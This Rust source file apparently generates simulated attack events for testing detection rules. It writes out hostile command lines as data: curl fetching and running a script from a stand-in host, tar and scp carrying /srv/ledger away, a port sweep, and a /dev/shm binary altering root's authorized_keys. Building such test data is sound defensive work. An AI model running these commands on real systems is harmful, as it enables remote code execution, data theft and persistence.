//! Attacks that can be told in a few events each; the rules in `rules/` see them.

use super::event::{Change, Writer};
use super::world::{Host, person};

/// An attack in steps, each some seconds after the one before.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Story {
    /// A script is fetched, made executable, and run from /tmp.
    FetchAndRun,
    /// A file transfer tool that nobody else uses carries an archive away.
    CarryAway,
    /// One process tries many ports of one neighbour.
    PortSweep,
    /// A program runs from shared memory and leaves an SSH key behind.
    SharedMemory,
}

impl Story {
    pub(super) const ALL: [Story; 4] =
        [Story::FetchAndRun, Story::CarryAway, Story::PortSweep, Story::SharedMemory];

    /// Writes the story; gives the time of its end.
    pub(super) fn tell(self, host: &mut Host, writer: &mut Writer<'_>) -> i64 {
        let user = person(writer.random);
        // The login shell that lives as long as the host.
        let shell = 1;
        match self {
            Story::FetchAndRun => {
                let fetch = ["curl", "-fsSL", "http://198.51.100.23/.x/up.sh", "-o", "/tmp/up.sh"];
                run(host, writer, user, shell, "/usr/bin/curl", &fetch);
                step(writer, 4);
                run(host, writer, user, shell, "/usr/bin/chmod", &["chmod", "+x", "/tmp/up.sh"]);
                step(writer, 2);
                let own = run(host, writer, user, shell, "/tmp/up.sh", &["/tmp/up.sh", "--quiet"]);
                step(writer, 1);
                writer.network(host, own, "203.0.113.77", 8443);
            }
            Story::CarryAway => {
                let pack = ["tar", "-czf", "/tmp/.s.tgz", "/srv/ledger"];
                run(host, writer, user, shell, "/usr/bin/tar", &pack);
                step(writer, 20);
                let target = "drop@203.0.113.77:/in/";
                let send = ["scp", "-P", "2222", "-q", "/tmp/.s.tgz", target];
                run(host, writer, user, shell, "/home/deploy/.cache/scp", &send);
            }
            Story::PortSweep => {
                let own = run(host, writer, user, shell, "/usr/bin/python3.12", &["python3", "-"]);
                for port in 0..30 {
                    writer.time += 150;
                    writer.network(host, own, "10.20.14.9", 20 + port * 11);
                }
            }
            Story::SharedMemory => {
                let own = run(host, writer, user, shell, "/dev/shm/.k/agent", &["agent", "-d"]);
                step(writer, 3);
                writer.file(host, own, "modification", "/root/.ssh/authorized_keys");
            }
        }
        writer.time
    }
}

fn step(writer: &mut Writer<'_>, seconds: i64) {
    writer.time += seconds * 1000;
}

/// Starts a process below a shell and writes its event.
fn run(
    host: &mut Host,
    writer: &mut Writer<'_>,
    user: (u32, &'static str),
    shell: usize,
    executable: &str,
    args: &[&str],
) -> usize {
    let name = executable.rsplit('/').next().unwrap_or(executable);
    let args = args.iter().map(|arg| (*arg).to_owned()).collect();
    let own = host.start(Some(shell), name, executable, args, user, writer.random);
    writer.process(host, shell, own, Change::Exec);
    own
}
